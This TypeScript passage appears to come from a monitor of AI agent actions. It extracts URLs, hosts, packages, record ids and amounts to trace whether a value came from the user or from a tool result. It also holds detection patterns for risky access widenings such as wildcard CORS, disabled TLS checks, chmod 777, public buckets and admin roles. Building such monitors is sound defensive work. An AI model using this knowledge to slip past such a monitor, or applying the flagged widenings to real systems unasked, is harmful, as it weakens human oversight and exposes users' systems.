 * The URLs of unfolded `text` as a URL parser reads them: cuts deleted first, escapes in an authority left
 * as they are (`h<TAB>ttps:/a.com%2F@b.com` reaches b.com); foldForValues decodes before scanValues joins.
 * Empty when no cut stands in a URL; each spans the whole text.
 */
export function parserUrlValues(text: string): FoundValue[] {
  // A cut written as a reference or an escape (`&#9;`, `\u0009`) is one once rendered.
  const r = rendered(text);
  if (!cutsUrl(r)) return [];
  const out: FoundValue[] = [];
  const apart = joinedApartAtSchemes(r);
  for (const joined of apart === undefined ? [joinUrlCuts(r)] : [joinUrlCuts(r), apart])
    for (const v of urlsIn(foldForValues(joined))) out.push({ ...v, at: 0, end: text.length });
  return out;
}

/**
 * Every distinctive value in text that is already folded; offsets refer to it. `calls` keeps a host-like
 * name written as a call (`vi.fn(`): a result's (so a value hidden that way is still noted) but not an
 * argument's, where it is code the agent writes, not a place it reaches.
 */
export function scanValues(t: string, limit = MAX_VALUES_PER_TEXT, calls = false): FoundValue[] {
  const out: FoundValue[] = [];
  const push = (v: FoundValue | undefined) => {
    if (v && out.length < limit) out.push(v);
  };
  for (const u of urlsIn(t)) push(u);
  for (const u of hostlessUrlsIn(t)) push(u);
  for (const e of emailsIn(t)) push(e);
  for (const h of hostsIn(t, calls)) push(h);
  for (const n of numbersIn(t)) push(n);
  for (const p of pathsIn(t)) push(p);
  for (const n of namesIn(t)) push(n);
  for (const n of recordNamesIn(t)) push(n);
  for (const n of bracketNamesIn(t)) push(n);
  for (const h of handlesIn(t)) push(h);
  const packages = packagesIn(t);
  for (const p of packages) push(p);
  for (const p of scopedPackagesIn(t, packages)) push(p);
  for (const g of grantsIn(t)) push(g);
  return packages.length === 0 ? out : withoutVersionHosts(t, out, packages);
}

/** `dotnet add [project] package`: NuGet's installer, whose package ids are dotted names (round 59). */
const NUGET_INSTALL = /\bdotnet\s+add(?:\s+[^\s;&|`'"$-][^\s;&|`'"$]{0,255})?\s+package\s+$/;

/** A package operand pinned to a dotted version (`left-pad@1.3.0.2`, `requests==2.31.0.1`, `@s/p@v10.10.10`). */
const PINNED = /^(?:@[a-z0-9][\w.-]*\/)?[a-z0-9][\w.-]*(?:@|[=~!<>]=|===)v?\d{1,5}(?:\.\d{1,5}){1,3}$/i;
/** The kinds a dotted version reads as: an address at an IPv4, a bare IPv4, its digits as one number. */
const VERSION_MISREAD: ReadonlySet<string> = new Set(['email', 'host', 'number']);

/**
 * Round 30: a package's four-part version read as an IPv4 (`user@a.b.c.d` an address since round 29, a
 * bare quad a host, `10.10.10.10` the number 10101010) made every pinned install from a page a destination
 * no one gave; the address, host and number inside such an operand are dropped, the package stays. A login at an IP (`ssh tunnel@203.0.113.44`)
 * is no installer's operand and is unchanged.
 */
function withoutVersionHosts(t: string, out: FoundValue[], packages: readonly FoundValue[]): FoundValue[] {
  const pinned = packages.filter((p) => p.kind === 'package' && PINNED.test(t.slice(p.at, p.end)));
  // Round 59 (prov3-r59): a NuGet package id is dotted (`Microsoft.CodeAnalysis.NetAnalyzers`) and read
  // as a host, which a shell never follows; NuGet fetches an id from the project's feeds, never from its
  // spelling, so the host inside that operand is dropped too. Go's module paths are hosts and stay hosts.
  const ids = packages.filter(
    (p) => p.kind === 'package' && NUGET_INSTALL.test(t.slice(Math.max(0, p.at - 320), p.at)),
  );
  if (pinned.length === 0 && ids.length === 0) return out;
  const inside = (v: FoundValue, ps: readonly FoundValue[]) => ps.some((p) => v.at >= p.at && v.end <= p.end);
  return out.filter(
    (v) => !(VERSION_MISREAD.has(v.kind) && inside(v, pinned)) && !(v.kind === 'host' && inside(v, ids)),
  );
}

/**
 * scanValues, with what only a result brings in besides: details (dates and amounts, judged only where
 * pressed, judgePressedArguments), so a decision's scan of its arguments does not pay for them.
 */
export function scanResultValues(t: string, limit = MAX_VALUES_PER_TEXT): FoundValue[] {
  const out = scanValues(t, limit, true);
  if (cutsUrl(t)) {
    for (const v of joinedUrlsIn(t)) if (out.length < limit) out.push(v);
    const apart = joinedApartAtSchemes(t);
    if (apart !== undefined)
      for (const v of urlsIn(apart)) if (out.length < limit) out.push({ ...v, at: 0, end: t.length });
  }
  for (const v of reposIn(t)) if (out.length < limit) out.push(v);
  for (const v of detailsIn(t)) if (out.length < limit) out.push(v);
  for (const v of codesIn(t)) if (out.length < limit) out.push(v);
  for (const v of recordNumbersIn(t)) if (out.length < limit) out.push(v);
  return out;
}

/**
 * A short id of capitals and digits (`LH9012`, `NW331-CREW`, `FI-OUL-998`, `RB-44120`), with a letter and
 * a digit, or a carrier's code before a flight number (`SK 1493`): too few digits for a number and no
 * lower case for a name, so until round 22 a result's id decided a rebooking or an unlock unseen.
 * Matched as a whole argument only (`tok:` and `name:` keys), as handles are. Bounded pieces, one pass.
 */
export function codesIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  if (!/[A-Z]/.test(t) || !/\d/.test(t)) return out;
  for (const m of t.matchAll(CODE)) {
    const c = m[0];
    if (c.length < 4 || !/\d/.test(c) || !/[A-Z]/.test(c)) continue;
    const spaced = c.includes(' ');
    const key = spaced ? `name:${c.toLowerCase()}` : `tok:${c.toLowerCase()}`;
    out.push({ kind: 'name', keys: [key], at: m.index, end: m.index + c.length });
  }
  return out;
}
/**
 * A record's number a result names beside its noun (`message 880`, `email id 88`, `(message 9140)`), as a
 * `rec:` key: an order to delete or change that record by its number (round 22) is known when an
 * argument is exactly the number. Fixed-width pieces, one pass.
 */
export function recordNumbersIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  if (!/\d/.test(t)) return out;
  for (const m of t.matchAll(RECORD_NUMBER)) {
    const n = m[1] ?? m[2] ?? m[3]!;
    // A bracketed id ends in its `)`: the number stands just before it.
    const at = m.index + m[0].length - n.length - (m[3] === undefined ? 0 : 1);
    out.push({ kind: 'name', keys: [`rec:${n}`], at, end: at + n.length });
  }
  return out;
}
// Round 32: the number in brackets after its noun too ("That alert (id 3310) ..."); and a short code a
// text goes to ("text REFUND 4471 to 89922", from round 39 "by texting CALLOUT TQ to 88099", "to our line
// 88099"), which no phone reading takes (too short for a number).
// Round 59: the marks other languages number a record with (`le message n° 8161`, `Nachricht Nr. 12`,
// `mensaje núm. 40`), the nouns they name a message by, and a bracketed id after any words ("mój
// poprzedni e-mail z numerem konta (id 4092)"): a deletion by that number is then the prose's, not unseen.
const RECORD_NUMBER =
  /\b(?:message|e-?mail|mail|alert|notice|ticket|event|nachricht|mensaje|messaggio|mensagem|bericht|wiadomoś[cć]|wiadomości)(?: ?\(?(?:id|no\.?|number|#|n[°º]|nr\.?|núm\.?|num\.?))? ?#?(\d{1,9})(?![\p{L}\p{N}.,:/-]\p{N}|[\p{L}\p{N}])|\b(?:text(?:ing)?|sms|txt)\b[^.\n]{0,40}?\bto (?:[\p{L}-]{1,20} ){0,3}?(\d{4,6})(?![\p{L}\p{N}.,:/-]\p{N}|[\p{L}\p{N}])|\(id:? ?(\d{1,9})\)/giu;

/** CODE's pieces: capitals and digits joined by `-`, or two or three capitals, a space, and two to five digits. */
// A particle of a script written without spaces ends a code glued to it (`KE 0907로`, `LH9012を`, round 28).
const CODE =
  /(?<![\p{L}\p{N}_./@#:-])(?:(?:[A-Z]{2,3}|[A-Z]\d|\d[A-Z]) \d{2,5}|[A-Z0-9]{1,12}(?:-[A-Z0-9]{1,12}){0,3})(?!(?![\p{sc=Hangul}\p{sc=Han}\p{sc=Hiragana}\p{sc=Katakana}])\p{L}|[\p{N}_@/-]|\.[\p{L}\p{N}]|:\d)/gu;

/** TLS verification turned off in code or config (GRANTS' tls-off, with curl's `-k` read by orCurlInsecure). */
export const TLS_OFF = anyOf(
  /NODE_TLS_REJECT_UNAUTHORIZED\s*=\s*["']?0|\bverify\s*=\s*false\b|StrictHostKeyChecking[= ]no\b|\bsslverify\s*(?:=\s*)?false\b|--insecure\b|--no-verify\b/,
  /\brejectunauthorized["']?\s*[:=]\s*false\b|\binsecureskipverify["']?\s*[:=]\s*true\b|\bcheck_hostname\s*=\s*false\b|\bcert_none\b/,
  /\b(?:ssl|tls)[-_]?verify(?:[-_]?peer)?["']?\s*[:=]\s*["']?(?:false|0|no)\b|\bverify[-_]?(?:ssl|tls|certs?)["']?\s*[:=]\s*["']?(?:false|0|no)\b/,
  /\bstrict-ssl(?:\s*=\s*|(?=[^\S ]* )\s+)false\b|\bpythonhttpsverify\s*=\s*["']?0|\bgit_ssl_no_verify\s*=\s*["']?(?:1|true)|--no-check-certificate\b/,
);

/** What GRANTS reads a class's code with: an expression, or one that reads curl's `-k` beside it. */
interface CodeReader {
  exec(t: string): { index: number; 0: string } | null;
  test(t: string): boolean;
}

/**
 * `pattern`, or curl's `-k` alone or among its short options (`-sk`, `-fsSLk`) in the command after a
 * `curl`, whichever comes first (`pattern` at a tie): what `pattern|\bcurl\b[^|;&\n]*\s-[a-jl-z]*k[a-z]*(?![\w-])`
 * found, read once a command. The expression read the command again from each `curl` in it (80 kB of
 * `curl ` in a turn, 3.1 s of CPU): every later `curl` of a command that holds no `-k` fails as its first did.
 */
export function orCurlInsecure(pattern: RegExp): CodeReader {
  const exec = (t: string) => {
    const a = pattern.exec(t);
    return curlInsecure(t, a === null ? t.length : a.index) ?? a;
  };
  return { exec, test: (t) => exec(t) !== null };
}

const CURL = /\bcurl\b/gi;
const BLANK = /\s/;
const OPTION_NEXT = /[\w-]/;
const OPTION_LETTER = /[a-z]/i;

/** The first curl `-k` that starts before `before`, as the expression matched it, or null. */
function curlInsecure(t: string, before: number): { index: number; 0: string } | null {
  CURL.lastIndex = 0;
  for (let m = CURL.exec(t); m !== null && m.index < before; m = CURL.exec(t)) {
    const from = m.index + m[0].length;
    let end = from;
    while (end < t.length && !'|;&\n'.includes(t[end] as string)) end++;
    // The last option of the command wins (`[^|;&\n]*` is greedy); its blank may be the newline that ends it.
    for (let p = t[end] === '\n' ? end : end - 1; p >= from; p--) {
      if (t[p + 1] !== '-' || !BLANK.test(t[p] as string)) continue;
      let e = p + 2;
      let k = false;
      for (; e < t.length && OPTION_LETTER.test(t[e] as string); e++) k ||= t[e] === 'k' || t[e] === 'K';
      if (k && !(e < t.length && OPTION_NEXT.test(t[e] as string)))
        return { index: m.index, 0: t.slice(m.index, e) };
    }
    CURL.lastIndex = Math.max(end, from);
  }
  return null;
}

/**
 * Widenings of access, by class: written as code or configuration (`"allowedOrigins": "*"`,
 * `0.0.0.0/0`, `chmod 777`, `--allow-write`, `public-read`, `verify=False`, `"role": "admin"`), and in
 * a user's own words besides (`loose`: "allow any origin", "make it public"). A change that carries one
 * grants more than it names, so it is followed as a value of its own: `grant:<class>`.
 */
const GRANTS: readonly [cls: string, code: CodeReader, words: RegExp][] = [
  [
    'any-origin',
    anyOf(
      // `null` is an origin too: sandboxed frames and `data:` pages send it, so allowing it allows anyone.
      /access-control-allow-origin\W{0,4}(?:\*|null\b)/,
      // `allowedOrigins: "*"`, `allowed_origins:` over a YAML block list whose item is `"*"`.
      /allow\w*origins?\b[^\n*]{0,40}?(?:\n[ \t]*-[ \t]*)?["'`[\s:=(]\*(?![\w*./])/,
      // An optional mark takes its own blanks (round 72: `\s*\[?\s*` split one run of blanks, quadratic).
      /\borigins?["']?\s*[:=]\s*(?:\[\s*)?["'`]?\*(?![\w*./])/,
      // The `cors` package reflects any origin for `origin: true` or a match-all pattern.
      /\borigin["']?\s*[:=]\s*(?:true\b|(?:\[\s*)?\/\^?\.[*+]\$?\/)/,
    ),
    /\b(?:any|all|every|wildcard)\s+(?:origins?|sites?|websites?|domains?)\b|\bcors\s+wildcard|\borigins?\b[^.\n]{0,24}\b(?:to|as|=)\s+(?:a\s+)?(?:wildcard|\*|any)/i,
  ],
  [
    'any-address',
    anyOf(
      // Every spelling of the zero network: `0.0.0.0/0`, iptables' `0/0`, a netmask, IPv6 `::/0`, `0::/0`.
      /(?<![\w.:/])0(?:\.0){0,3}\/0(?:(?:\.0){3})?(?![\w./])/,
      // A run of `0` and `:` holding a `:` (looked for ahead once, not split between two runs).
      /(?<![\w:.])(?=[0:]*:)[0:]*\/0(?![\w./])/,
      /::ffff:0\.0\.0\.0\/(?:9[0-6]|[0-8]?\d)\b/,
      /source[-_]?address[-_]?prefix(?:es)?\W{0,4}(?:\*|internet\b|any\b)/,
    ),
    /\b(?:any|every|all)\s+(?:ip|address)(?:es)?\b|\bwhole internet\b/i,
  ],
  [
    'world-writable',
    anyOf(
      // An octal mode whose last digit lets others write (`777`, `0o666`, `1777`), or a symbolic clause for
      // others or all that adds write (`o+w`, `a=rwx`, `ugo+w`, `u=rwx,g=rwx,o=rwx`).
      /\bchmod\s+(?:--?[\w-]+\s+)*(?:(?:0o?)?[0-7]?[0-7][0-7][2367]\b|(?:[ugoa]*[-+=][rwxXst]*,)*(?=[ug]*[oa])[ugoa]*[+=][rwxXst]*w)/,
      /\bchmod(?:sync)?\s*\([^,()]{0,120},\s*(?:0o?)?[0-7]?[0-7][0-7][2367]\b/,
      /\b(?:mode|perm(?:ission)?s?)["']?\s*[:=]\s*["']?(?:0o?)?[0-7]?[0-7][0-7][2367]\b/,
      /\bumask\s+0*[0-7]?[0-7][0145]\b/,
    ),
    /\bworld[- ]writable\b|\b777\b/i,
  ],
  ['write-access', /--allow-write\b|\bwrite-all\b|["']?read_?only["']?\s*[:=]\s*false\b/i, /\bwrite access\b|\ballow-write\b|\bread-write\b/i],
  [
    'public',
    anyOf(
      /\bpublic-read(?:-write)?\b|--acl[= ]public|"principal"\s*:\s*"\*"|--visibility[= ]public\b|"visibility"\s*:\s*"public"|--access[= ]public\b/,
      // `gh repo create --public`, `gh gist create --public`; a principal of every AWS account; GCS' allUsers.
      /(?<![\w-])--public\b|"principal"\s*:\s*\{\s*"aws"\s*:\s*(?:\[\s*)?"\*"|\ballusers\b|\ballauthenticatedusers\b/,
      /\bblock_?public_?(?:acls|policy)["']?\s*[:=]\s*false\b|\bacl["']?\s*[:=]\s*["']public/,
      // A document shared with whoever holds its link (Google Drive's `anyoneWithLink`, `anyone_with_link`).
      /\banyone[_-]?with[_-]?(?:the[_-]?)?link\b|\banyonewithlink\b/,
    ),
    /\bpublic(?:ly)?\b|\banyone with (?:the |a )?link\b/i,
  ],
  [
    'tls-off',
    orCurlInsecure(TLS_OFF),
    /\binsecure\b|\bno-verify\b|\b(?:skip|disable|turn off)\s+(?:tls|ssl|certificate|cert)\b/i,
  ],
  [
    'admin',
    anyOf(
      /["']?roles?["']?\s*[:=]\s*(?:\[\s*)?["']?(?:admin|owner|superuser|root|cluster-admin)\b|--role[= ]["']?(?:roles\/)?(?:admin|owner)\b/,
      /\bAdministratorAccess\b|"action"\s*:\s*(?:\[\s*)?"\*"|\bis_?(?:admin|superuser|staff)["']?\s*[:=]\s*(?:true|1)\b|\bNOPASSWD:\s*ALL\b|\bcluster-admin\b/,
      // Round 34: a repository's collaborator permission (`gh api -X PUT .../collaborators/x -f permission=admin`).
      /\bpermission["']?\s*[:=]\s*["']?(?:admin|maintain|owner)\b|--permission[= ]["']?(?:admin|maintain|owner)\b/,
    ),
    /\badmin(?:istrator)?\b|\bowner\b/i,
  ],
]; // biome-ignore format: a table reads better packed

/** One case-insensitive pattern of the alternatives: each stays readable on its own line. */
function anyOf(...alternatives: RegExp[]): RegExp {
  return new RegExp(alternatives.map((r) => r.source).join('|'), 'i');
}
/** The keys of every class of widening. */
export const GRANT_KEYS: readonly string[] = GRANTS.map(([cls]) => `grant:${cls}`);
/** Any of the grants' anchors: most texts hold none, so most scans stop here. */
const GRANT_HINT =
  /\*|\/0|anyone|0\.0\.0\.0|chmod|mode|perm|umask|write|read_?only|public|allusers|allauthenticated|principal|verify|insecure|tls|ssl|stricthost|reject|cert|hostname|role|admin|superuser|staff|nopasswd|origin|address|curl/i;
const GRANT_WORDS_HINT =
  /anyone|origin|cors|site|domain|ip|address|internet|writ|777|public|secure|verify|tls|ssl|cert|admin|owner/i;

/** The widenings of access in a text (see GRANTS); `loose` reads a user's words for them too. */
export function grantsIn(t: string, loose = false): FoundValue[] {
  const out: FoundValue[] = [];
  const code = GRANT_HINT.test(t);
  if (!code && !(loose && GRANT_WORDS_HINT.test(t))) return out;
  for (const [cls, pattern, words] of GRANTS) {
    const m = (code ? pattern.exec(t) : null) ?? (loose ? words.exec(t) : null);
    if (m) out.push({ kind: 'grant', keys: [`grant:${cls}`], at: m.index, end: m.index + m[0].length });
  }
  return out;
}

/** At most this many worded grants of one text are read (wordedGrantsIn). */
const MAX_WORDED_GRANTS = 32;
/** Each class's words, to find them all. */
const GRANT_WORDS_ALL = GRANTS.map(
  ([cls, code, words]) => [cls, code, new RegExp(words.source, 'gi')] as const,
);

/**
 * Every place a text names a widening in words only (no code of its class in it), so each can be read
 * for an order around it ("let every site call it (set the allowed origins to a wildcard)").
 */
export function wordedGrantsIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  if (!GRANT_WORDS_HINT.test(t)) return out;
  const code = GRANT_HINT.test(t);
  for (const [cls, pattern, words] of GRANT_WORDS_ALL) {
    if (code && pattern.test(t)) continue;
    for (const m of t.matchAll(words)) {
      out.push({ kind: 'grant', keys: [`grant:${cls}`], at: m.index, end: m.index + m[0].length });
      if (out.length >= MAX_WORDED_GRANTS) return out;
    }
  }
  return out;
}

/** A command that installs or runs a package by name (`pip install x`, `npm i x`, `npx x`, `cargo add x`). */
const INSTALL =
  /(?:^|[\s;&|(`'"$])(?:(?:pip3?|pipx|uv(?:\s+pip)?|poetry|pdm|conda|gem|brew|apt(?:-get)?|cargo|composer|bundle)\s+(?:install|add)|composer\s+(?:global\s+)?require|go\s+(?:get|install)|(?:npm|pnpm|yarn|bun)\s+(?:install|i|add)|(?:npx|bunx|uvx|pnpx)|(?:pnpm|yarn)\s+dlx|npm\s+exec|dotnet\s+add(?:\s+[^\s;&|`'"$-][^\s;&|`'"$]{0,255})?\s+package)(?=\s)/g;
const INSTALL_HINT = /install|add|require|npx|bunx|uvx|pnpx|dlx|exec|go get|\bi\s/i;
const HAS_DIGIT = /\d/;

/** An installer's operand naming a forge's repository: `owner/name`, `github:owner/name`, `#ref` after. */
const FORGE_OPERAND =
  /^["']?(?:(?:github|gitlab|bitbucket|gist):)?([a-z0-9][\w.-]*\/[a-z0-9][\w.-]*)(?:#\S*)?["']?$/i;

/**
 * Scoped package names in prose (round 34: a changelog's "hl7-lite is now published as
 * @hl7-lite-next/parser"): `@scope/name` is spelled only for a package, so a page that names one gave it,
 * as a page's `npm install` line does (keyed as packagesIn keys one), where the page presses it: the ledger
 * notes a result's only under a replacement ("now published as ...") or words to the agent, so a doc's
 * "Official SDK: npm package @westgrid/connect-sdk" the user sent the agent to stays the user's errand.
 * Those an install command named are skipped.
 */
function scopedPackagesIn(t: string, commands: readonly FoundValue[]): FoundValue[] {
  if (!t.includes('@') || !t.includes('/')) return [];
  const out: FoundValue[] = [];
  for (const m of t.matchAll(SCOPED_IN_PROSE)) {
    const end = m.index + m[0].length;
    if (commands.some((c) => c.at <= m.index && c.end >= end)) continue;
    const name = m[0].toLowerCase();
    out.push({
      kind: 'package',
      keys: [`word:${name}`, `tok:${name}`, `pkg:${name}`],
      at: m.index,
      end,
      inProse: true,
    });
    if (out.length >= MAX_SCOPED_IN_PROSE) break;
  }
  return out;
}
/** `@scope/name` standing alone: not inside an address, a path or a URL (`a@b.c/x`, `/x/@s/y`). */
const SCOPED_IN_PROSE =
  /(?<![\p{L}\p{N}_@/.:-])@[a-z0-9][\w.-]{0,63}\/[a-z0-9][\w.-]{0,127}(?<![.-])(?![\w@/])/giu;
/** A text names few scoped packages; past this many the rest are no values of their own. */
const MAX_SCOPED_IN_PROSE = 64;

/** Composer's package name, `vendor/name` (packagist's form), its `:version` left off. */
const COMPOSER_NAME = /^[a-z0-9][\w.-]*\/[a-z0-9][\w.-]*/i;

/** A package spec's name: an optional `@scope/`, then letters, digits, `.`, `_`, `-`. */
const PACKAGE_NAME = /^(@[a-z0-9][\w.-]*\/)?[a-z0-9][\w.-]*/i;

/**
 * Package names after an install or run command (`pip install reqeusts`, `npx fix-peer-depz@latest`):
 * the version (`@x`, `==x`) dropped, flags skipped, up to the end of the simple command. Known by the
 * user's own word or token first, then as a package.
 */
export function packagesIn(t: string): FoundValue[] {
  const out: FoundValue[] = [];
  // Most texts name no installer: skip the command scan.
  if (!INSTALL_HINT.test(t)) return out;
  for (const m of t.matchAll(INSTALL)) {
    let i = m.index + m[0].length;
    // A runner (`npx x ...`) names one package; what follows are its own arguments.
    const most = /(?:npx|bunx|uvx|pnpx|dlx|exec)$/.test(m[0]) ? 1 : 8;
    const composer = m[0].includes('composer');
    // An option's value (`-w packages/ui`) is no operand: the word after a bare option is not a repository.
    let afterOption = false;
    for (let n = 0, found = 0; n < 8 && found < most; n++) {
      while (i < t.length && (t[i] === ' ' || t[i] === '\t')) i++;
      let e = i;
      // A quoted operand is one word (`npm i "owner/name"`).
      const quote = t[i] === '"' || t[i] === "'" ? t.indexOf(t[i]!, i + 1) : -1;
      if (quote > i && quote - i <= 256) e = quote + 1;
      else while (e < t.length && !/[\s;&|)`'"]/.test(t[e]!)) e++;
      if (e === i) break;
      const word = quote > i && e === quote + 1 ? t.slice(i + 1, quote) : t.slice(i, e);
      // A sentence's full stop is not part of the name.
      const quoted = quote > i && e === quote + 1;
      // A quoted name is read as before round 28 (not at all): only a quoted repository is new.
      // Composer's packages are `vendor/name` (its version after `:`): the vendor alone names none.
      const name =
        word.startsWith('-') || quoted
          ? undefined
          : composer
            ? COMPOSER_NAME.exec(word)?.[0]?.toLowerCase()
            : PACKAGE_NAME.exec(word)?.[0]
                ?.toLowerCase()
                .replace(/[.-]+$/, '');
      if (name !== undefined && /[a-z]/.test(name) && name.length >= 2) {
        out.push({ kind: 'package', keys: [`word:${name}`, `tok:${name}`, `pkg:${name}`], at: i, end: e });
        found++;
      }
      // An installer's `owner/name` or `github:owner/name` operand is a forge's repository (round 28).
      const forged = composer ? null : FORGE_OPERAND.exec(word);
      if (forged && (!afterOption || word.includes(':'))) {
        const repo = commandReposIn(`--repo ${forged[1]}`)[0];
        if (repo !== undefined) out.push({ ...repo, at: i, end: e });
      }
      afterOption = word.startsWith('-') && !word.includes('=');
      i = e;
    }
  }
  return out;
}

/**
 * An ISO date, or an amount: a number with cents (`49.99`, `1,250.00`) or a currency beside it; from
 * round 22 its thousands grouped with no cents too (`13 500 EUR`, `1.250 €`, a no-break or thin space
 * between), which read as the last group alone (`500`) before.
 */
/**
 * Currencies an amount is marked by (round 30: `3 150 zł`, `12 500 Kč`, `5 000 kr`, `₹ 500` were bare
 * numbers, so the user's amount was no amount and a result's with cents decided it): ISO codes, and signs
 * that stand before or after the number; the words only after it.
 */
const CURRENCY_CODES =
  'EUR|USD|GBP|CHF|PLN|CZK|HUF|SEK|NOK|DKK|ISK|RON|BGN|RSD|UAH|RUB|TRY|JPY|CNY|RMB|KRW|INR|IDR|PHP|THB|VND|MYR|SGD|HKD|TWD|AUD|NZD|CAD|MXN|BRL|ARS|CLP|COP|PEN|ZAR|NGN|KES|GHS|EGP|MAD|AED|SAR|QAR|ILS|PKR|BDT|LKR|MNT|KZT|UZS|GEL|AMD|AZN';
const CURRENCY_CODE_SET: ReadonlySet<string> = new Set(CURRENCY_CODES.toLowerCase().split('|'));
/** Is this word (any case) an ISO currency code of CURRENCY_CODES (`GBP`)? */
export const isCurrencyCode = (word: string): boolean => CURRENCY_CODE_SET.has(word.toLowerCase());
const CURRENCY_SIGNS = '€|\\$|£|¥|₹|₩|₺|₽|₴|₦|₱|₫|₪|₸|₾|₼|৳';
const CURRENCY_WORDS = 'euros?|dollars?|zł|zl|złotych|Kč|Ft|kr|lei|лв|руб|грн|元|円|원';
const DETAIL = new RegExp(
  `(?<![\\p{L}\\p{N}.,-])(?:(\\d{4}-\\d{2}-\\d{2})|(?:(?:${CURRENCY_CODES}|${CURRENCY_SIGNS})\\s?)?(\\d{1,3}(?:[,.' \\u00a0\\u2009\\u202f]\\d{3})+(?:[.,]\\d{2})?|\\d{1,9}(?:[.,]\\d{1,2})?)(?:\\s?(?:${CURRENCY_CODES}|${CURRENCY_SIGNS}|${CURRENCY_WORDS}))?)(?![\\p{L}\\p{N}]|[.,]\\d)`,
  'gu',
);
/** One blank between thousands (`13 500`): the same digits may be a count and an amount (`7 500 EUR`). */
const BLANK_GROUP = /^\d{1,3}[ \u00a0\u2009\u202f](\d{3}(?:[.,]\d{2})?)$/;

/**
 * Dates and amounts in a text. In a result, a bare whole number without a currency is not an amount
 * (ids, counts, ratings): `loose` (an argument, where the number stands alone) takes it too.
 */
export function detailsIn(t: string, loose = false): FoundValue[] {
  const out: FoundValue[] = [];
  if (!HAS_DIGIT.test(t)) return out;
  for (const m of t.matchAll(DETAIL)) {
    if (m[1] !== undefined) {
      out.push({ kind: 'date', keys: [`date:${m[1]}`], at: m.index, end: m.index + m[0].length });
      continue;
    }
    const raw = m[2]!;
    const marked = m[0].length > raw.length || /[.,]\d{2}$/.test(raw);
    if (!marked && !loose) continue;
    const keys = [`amt:${amountKey(raw)}`];
    // Blank-grouped, the last group alone is a reading too ("7 500 EUR": seven of 500 EUR, or 7,500).
    const blank = BLANK_GROUP.exec(raw);
    if (blank !== null) keys.push(`amt:${amountKey(blank[1]!)}`);
    out.push({ kind: 'amount', keys, at: m.index, end: m.index + m[0].length });
  }
  return out;
}

/** An amount as one key: thousands separators dropped, as a number (`1,250.00` is `1250`, `46.80` `46.8`). */
function amountKey(raw: string): string {
  const cents = /[.,](\d{1,2})$/.exec(raw);
  const whole = (cents ? raw.slice(0, cents.index) : raw).replace(/[,.' \u00a0\u2009\u202f]/g, '');
  return String(Number(cents ? `${whole}.${cents[1]}` : whole));
}

const DIGITS_ONLY = /^\d{1,9}$/;
/**
 * The keys a whole argument is known by besides the values inside it: a short argument (a hotel, a
 * person, a company) is itself a name, matched against the capitalised phrases results bring in.
 */
export function wholeArgumentKeys(text: string): string[] {
  const words = foldForValues(text).trim().split(/\s+/);
  if (words.length > MAX_NAME_WORDS || text.length > 96) return [];
  if (words.length === 1) {
    // One word is a name only as a record's whole field (recordNamesIn), or a handle (handlesIn); the
    // user's own word or token wins.
    const w = words[0]!.toLowerCase().replace(HANDLE_SIGIL, '');
    // A record's number (recordNumbersIn): a deletion by `"email_id": "880"`.
    const keys =
      HANDLE.test(w) || PAYMENT_ID.test(w)
        ? [`word:${w}`, `tok:${w}`]
        : DIGITS_ONLY.test(w)
          ? [`rec:${w}`]
          : [];
    if (SINGLE_NAME.test(words[0]!) || UNCASED_NAME.test(words[0]!)) keys.push(`name:${w}`);
    return keys;
  }
  return [`name:${words.join(' ').toLowerCase()}`];
}

/**
 * wholeArgumentKeys of `n` (two or more) blank-free words joined by single spaces, where foldsUnchanged
 * holds for them: the one `name:` key, without folding and splitting the joined text again.
 */
export function wholeKeyOfWords(joined: string, n: number): string | undefined {
  return n > MAX_NAME_WORDS || joined.length > 96 ? undefined : `name:${joined.toLowerCase()}`;
}

/**
 * The tokens a text spells exactly, as `said:` keys: each run without spaces that holds something
 * besides letters (`Kestrel-Orbit-5521!`, `Quartz#9`), as written and without the quotes or the
 * sentence's end around it, so a value the user dictated whole with its punctuation is theirs (a
 * password: values.ts reads no value in it). An argument asks with `saidKey` of its whole text.
 * The closing run after a token mixes quotes and a sentence's end in any order (`"Kestrel-5521!".`,
 * `(Kestrel-5521!).`) and the token may end in one of them itself, so the token is cut at the run's
 * start and at each of its last SAID_TAIL places (until round 16 the quotes came off only before the
 * full stop, so `"Kestrel-Orbit-5521!".` was never said whole).
 */
export function saidKeys(text: string, limit = MAX_VALUES_PER_TEXT): string[] {
  const out = new Set<string>();
  for (const raw of text.normalize('NFKC').split(/\s+/)) {
    if (out.size >= limit) break;
    for (const t of saidCuts(raw)) {
      const k = saidKey(t);
      if (k !== undefined) out.add(k);
    }
  }
  return [...out];
}

const OPENING_QUOTES = '"\'`“”‘’«([';
const CLOSING_QUOTES = '"\'`“”‘’»)]';
const SENTENCE_END = '.,;:!?';
const CLOSING_RUN = CLOSING_QUOTES + SENTENCE_END;
/** How many of a closing run's last places a token is also cut at: a password's own `!` under `")`. */
const SAID_TAIL = 4;

/**
 * The spellings a token may say whole: from its start or after its run of opening quotes, to its end,
 * to each of the last SAID_TAIL places of its closing run, or to that run's start. At most ten slices,
 * each found by index, so a token costs a bounded number of passes over it.
 */
export function saidCuts(raw: string): string[] {
  let lead = 0;
  while (lead < raw.length && OPENING_QUOTES.includes(raw[lead]!)) lead++;
  let run = raw.length;
  while (run > lead && CLOSING_RUN.includes(raw[run - 1]!)) run--;
  const ends = new Set<number>([run]);
  for (let end = raw.length; end >= run && end > raw.length - SAID_TAIL; end--) ends.add(end);
  const out = new Set<string>();
  for (const start of lead === 0 ? [0] : [0, lead])
    for (const end of ends) if (end > start) out.add(raw.slice(start, end));
  return [...out];
}

/**
 * The `said:` key of a whole argument: none for a plain word, which one word of the user's cannot vouch
 * for, nor for one that only quotes or a sentence's end wrap (`rotation.`, `"rotation"!`): every word
 * that ends a sentence would vouch for itself so.
 */
export function saidKey(text: string): string | undefined {
  const t = text.normalize('NFKC').trim();
  if (t.length < 4 || t.length > 128 || /\s/.test(t) || PLAIN_WORD.test(bareWord(t))) return undefined;
  return `said:${t}`;
}

const PLAIN_WORD = /^\p{L}*$/u;

/** A token without its leading opening quotes and its trailing run of closing quotes and sentence ends. */
function bareWord(t: string): string {
  let start = 0;
  while (start < t.length && OPENING_QUOTES.includes(t[start]!)) start++;
  let end = t.length;
  while (end > start && CLOSING_RUN.includes(t[end - 1]!)) end--;
  return t.slice(start, end);
}

/** A one-word name in a script without capitals (`祇園`, `ニッポンレンタカー`), as a bracket quotes it (bracketNamesIn). */
